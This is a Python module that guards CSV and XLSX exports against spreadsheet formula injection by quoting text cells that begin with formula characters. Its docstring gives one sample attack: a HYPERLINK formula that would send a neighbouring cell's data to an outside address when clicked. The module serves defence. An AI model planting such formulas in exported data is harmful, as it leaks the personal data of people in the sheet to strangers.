"""Spreadsheet cells that a spreadsheet never runs (issue 14, point 3: formula injection).

A name, an offer or a note is typed by someone, and a spreadsheet program reads a cell that
starts with ``=``, ``+``, ``-`` or ``@`` as a formula — ``=HYPERLINK("http://…?d="&D2,…)``
in a citizen's name would send the row's neighbours to a stranger when clicked. Tab and
carriage return are on the list because Excel trims them before it looks. Following OWASP
("CSV Injection"), such a text gets a leading single quote, which the spreadsheet shows and
never evaluates. Numbers are left alone: a negative amount is a number, not text, and must
stay one for finance to add it up.

Every export to CSV or XLSX writes its cells through this module; a test fails when a
module writes a spreadsheet without it (``tests/security/test_formula_injection.py``).
"""

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(text: str) -> str:
    """The text as a spreadsheet must show it, never run it."""
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_value(value: Any) -> Any:
    """A cell's value: text made safe, everything else (numbers, dates, empty) as it is."""
    if isinstance(value, str):
        return safe_text(value)
    return value


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet with every text a string cell.

    openpyxl turns any string starting with ``=`` into a formula cell (``<f>``) on its own;
    the quote from :func:`safe_text` already prevents that, and the cell's type is set to
    string as well so no later change to the rule can make a text live again.
    """
    row = [safe_value(v) for v in values]
    sheet.append(row)
    for column, value in enumerate(row, start=1):
        if isinstance(value, str):
            sheet.cell(row=sheet.max_row, column=column).data_type = "s"
